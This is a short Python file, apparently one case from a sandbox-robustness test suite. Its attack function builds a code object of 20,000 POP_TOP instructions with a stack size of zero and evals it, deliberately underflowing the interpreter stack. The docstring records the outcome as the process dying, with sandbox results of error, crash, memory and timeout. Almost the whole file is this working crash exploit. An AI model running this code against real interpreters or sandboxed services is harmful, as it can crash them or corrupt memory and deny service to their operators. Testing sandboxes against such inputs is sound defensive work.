"""Run hand-made bytecode that pops a stack of size zero for ever.

Evidence: died
Sandbox: error, crashed, memory, timeout
"""

import opcode


def attack(target):
    pop = opcode.opmap["POP_TOP"]
    code = (lambda: None).__code__.replace(co_code=bytes([pop, 0]) * 20_000, co_stacksize=0)
    return eval(code)
